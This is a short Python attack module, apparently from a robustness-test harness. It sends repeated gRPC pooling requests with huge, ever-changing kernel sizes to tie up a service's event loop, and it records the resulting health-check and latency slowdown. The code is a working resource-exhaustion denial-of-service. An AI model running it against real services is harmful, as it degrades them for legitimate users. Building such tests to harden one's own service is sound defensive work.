"""Small requests with long work: 64 kB, 16 times the maximum of 62,000 values at 1,001 positions.

Their bytes are few enough to run on the event loop. The attacker changes the kernel size each time, so that the server
has never seen their kind before.
"""

import itertools
from typing import Any

from poolservice.v1 import pool_pb2 as pb
from repeated_calls import repeat_calls
from target import Target

FLAGS: tuple[str, ...] = ()
BEFORE = "health waits for 6.9 s, p99 of good callers 9.3 s"

_LENGTH = 63_000
_SPECS = 16
_CALLERS = 4
_TIMEOUT_SECONDS = 10.0


async def attack(target: Target, seconds: float) -> str:
    """Send such requests one after the other from a few callers."""
    numbers = itertools.count()

    async def call(stub: Any, _caller: int) -> pb.PoolResponse:
        response: pb.PoolResponse = await stub.Pool(_request(next(numbers)), timeout=_TIMEOUT_SECONDS)
        return response

    return await repeat_calls(target, seconds, call, callers=_CALLERS)


def _request(number: int) -> pb.PoolRequest:
    kernels = [_LENGTH - 1_000 - (number * _SPECS + index) % 20_000 for index in range(_SPECS)]
    return pb.PoolRequest(
        specs=[
            pb.PoolSpec(spatial_dims=1, max_pool=pb.MaxPool(kernel_size=[kernel], stride=[1])) for kernel in kernels
        ],
        tensor=pb.Tensor(dtype=pb.DATA_TYPE_UINT8, shape=[1, _LENGTH], data=bytes(_LENGTH)),
    )
